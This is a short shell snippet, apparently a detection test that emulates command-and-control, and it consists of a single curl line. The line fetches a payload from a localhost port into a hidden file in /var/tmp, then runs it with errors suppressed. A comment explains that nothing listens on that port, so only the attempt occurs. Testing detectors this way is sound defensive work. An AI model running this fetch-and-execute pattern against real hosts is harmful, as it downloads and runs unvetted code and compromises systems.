# tactic: command-and-control
# fetch a payload into /var/tmp and run it by its path (nothing listens, so the file never comes: the attempt is the behaviour)
curl -s -m 2 -o /var/tmp/.cache http://127.0.0.1:7006/p; /var/tmp/.cache 2>/dev/null; true
